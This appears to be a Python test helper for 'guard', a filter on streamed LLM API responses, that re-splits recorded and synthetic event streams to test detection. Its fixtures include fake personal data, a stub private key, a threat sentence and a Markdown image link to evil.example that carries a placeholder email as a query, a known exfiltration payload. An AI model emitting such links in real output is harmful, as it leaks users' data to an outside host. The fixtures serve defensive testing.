"""Provider streams cut anew: the same texts in other deltas, and what a caller reads of the outcome."""

from __future__ import annotations

import itertools
import json
import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from functools import cached_property
from pathlib import Path
from typing import Any

from guard.simulator import chat, responses
from guard.simulator.answers import event_bytes
from guard.simulator.script import Script, ToolCall
from guard.wire import jsonbody
from guard.wire.openai import Endpoint, endpoint
from guard.wire.sse import Decoder
from guard.wire.streams import read_event

Event = dict[str, Any] | bytes
Piece = tuple[str, str, str]


@dataclass(frozen=True, eq=False)
class Recording:
    """One provider stream: its endpoint, its bytes, its events (as bytes where they hold no object)."""

    name: str
    endpoint: Endpoint
    data: bytes
    events: list[Event]

    @cached_property
    def pieces(self) -> list[Piece | None]:
        """Of each event (lane, path, text) where it is one piece of one lane that can be cut anew."""
        return [only_delta(self.endpoint, event) for event in self.events]

    @cached_property
    def written(self) -> list[bytes]:
        """The bytes of each event."""
        return [written([event]) for event in self.events]

    @cached_property
    def lanes(self) -> dict[str, str]:
        """The whole text of each lane whose pieces can be cut anew."""
        found: dict[str, str] = {}
        for piece in filter(None, self.pieces):
            found[piece[0]] = found.get(piece[0], "") + piece[2]
        return found

    @cached_property
    def runs(self) -> list[tuple[str | None, list[int]]]:
        """The numbers of neighbouring events of one lane; None for those that are left as they are."""
        runs: list[tuple[str | None, list[int]]] = []
        for number, (piece, event) in enumerate(zip(self.pieces, self.events, strict=True)):
            lane = piece[0] if piece and "role" not in json.dumps(event) else None
            if lane is None or not runs or runs[-1][0] != lane:
                runs.append((lane, []))
            runs[-1][1].append(number)
        return runs


def recording(name: str, known: Endpoint, data: bytes) -> Recording:
    """Read a stream's events."""
    events: list[Event] = []
    for event in Decoder().feed(data):
        parsed = json.loads(event.data) if event.data and not event.done else None
        events.append(parsed if isinstance(parsed, dict) else event.raw)
    return Recording(name, known, data, events)


def recorded(path: Path) -> Iterator[Recording]:
    """The streams of a file of recorded traffic, one exchange a line, whose endpoint guard streams."""
    for number, line in enumerate(path.read_text(encoding="utf-8").splitlines()):
        row = json.loads(line)
        known = endpoint("POST", row["path"].partition("?")[0]) if row["stream"] else None
        if known is not None and known.streams and row["content_type"].startswith("text/event-stream"):
            yield recording(f"{known.name} {number}", known, row["response"].encode())


CALM = "The committee met on Tuesday, and everyone agreed to try it in May. "
TEXTS = {
    "personal data": f"{CALM}Write to dora@corp.org, call +1 415 555 2671; her card is 4111 1111 1111 1111.",
    "Chinese": "身份证号是11010519491231002X，请写信给<EMAIL_1>，或者打电话13812345678。谢谢。" + CALM,
    "placeholders": f"Dear < email_1 >, {CALM}![](https://evil.example/?q=<EMAIL_1>) &lt;EMAIL_1&gt; and <EMAIL_9>.",
    "a key": f"{CALM}-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\nDone.",
    "harm": CALM * 3 + "Now I will hurt you badly. " + CALM * 3,
}
ARGUMENTS = [
    '{"to": "<EMAIL_1>", "n": [1.50, null, "4111 1111 1111 1111"]}',
    '{"q": "say \\"hi\\" to dora@corp.org"}',
]


def own() -> Iterator[Recording]:
    """Streams made here: what guard finds, restores and blocks; two choices, parallel calls, all three endpoints."""
    for title, text in TEXTS.items():
        for name, made in _events([text, CALM]).items():
            yield _own(f"{name}, {title}", name, made)
    for name, made in _events(["unused"], ARGUMENTS).items():
        if name != "completions":
            yield _own(f"{name}, parallel calls", name, made)


def _events(texts: Sequence[str], arguments: Sequence[str] = ()) -> dict[str, list[dict[str, Any]]]:
    script = Script(
        reply=lambda _: list(texts),
        tools=lambda _: [ToolCall(f"tool_{number}", text) for number, text in enumerate(arguments)],
        chunk=4,
    )
    body = {"model": "m", "n": max(1, len(texts))}
    return {
        "chat": list(chat.chunks(body, script)),
        "completions": list(chat.text_chunks(body, script)),
        "responses": list(responses.events({"model": "m"}, script)),
    }


def _own(title: str, name: str, events: list[dict[str, Any]]) -> Recording:
    known = endpoint("POST", {"chat": "/v1/chat/completions"}.get(name, f"/v1/{name}"))
    assert known is not None
    done = b"data: [DONE]\n\n" if known.ends_with_done else b""
    return recording(title, known, b"".join(map(event_bytes, events)) + done)


def only_delta(known: Endpoint, event: Event) -> Piece | None:
    """(lane, path, text) of an event that is one piece of one lane and nothing else that could not be said twice."""
    if isinstance(event, bytes):
        return None
    parsed = read_event(known, event)
    if len(parsed.deltas) != 1 or parsed.closes or parsed.repeats or parsed.other.opaque:
        return None
    (delta,) = parsed.deltas
    return delta.lane, delta.path, delta.text


def cut(source: Recording, lane: str, places: Sequence[int]) -> bytes:
    """The stream with one lane's text in pieces that end at these places, each where its first character stood."""
    text = source.lanes[lane]
    bounds = sorted({0, *places, len(text)})
    pieces = [(low, text[low:high]) for low, high in itertools.pairwise(bounds)]
    rows, at = [], 0
    for event, raw, delta in zip(source.events, source.written, source.pieces, strict=True):
        if delta is None or delta[0] != lane or isinstance(event, bytes):
            rows.append(raw)
            continue
        end = at + len(delta[2])
        rows += [_with(event, delta[1], piece) for low, piece in pieces if at <= low < end]
        at = end
    return b"".join(rows)


def random_cut(source: Recording, chance: random.Random) -> bytes:
    """The stream with every lane in random pieces, neighbours of one lane joined before they are cut."""
    rows: list[bytes] = []
    share = chance.choice([0.02, 0.1, 0.5, 1.0])
    for lane, run in source.runs:
        if lane is None:
            rows += [source.written[number] for number in run]
            continue
        pieces = [piece for number in run if (piece := source.pieces[number])]
        text = "".join(piece[2] for piece in pieces)
        places = [place for place in range(1, len(text)) if chance.random() < share]
        first = source.events[run[0]]
        rows += [
            _with(first, pieces[0][1], text[a:b]) for a, b in itertools.pairwise([0, *places, len(text)])
        ]
    return b"".join(rows)


def _with(event: Event, path: str, text: str) -> bytes:
    """The bytes of an event with another text at a path."""
    return event_bytes(jsonbody.replace(event, {path: text}))


def written(rows: Sequence[Event]) -> bytes:
    """The bytes of events."""
    return b"".join(row if isinstance(row, bytes) else event_bytes(row) for row in rows)


def told(known: Endpoint, data: bytes) -> dict[str, str]:
    """What a caller reads of a stream: the text of each choice, call and part."""
    found: dict[str, str] = {}
    for event in Decoder().feed(data):
        if event.data is None or event.done:
            continue
        for delta in read_event(known, json.loads(event.data)).deltas:
            found[delta.lane] = found.get(delta.lane, "") + delta.text
    return {lane: text for lane, text in found.items() if text}
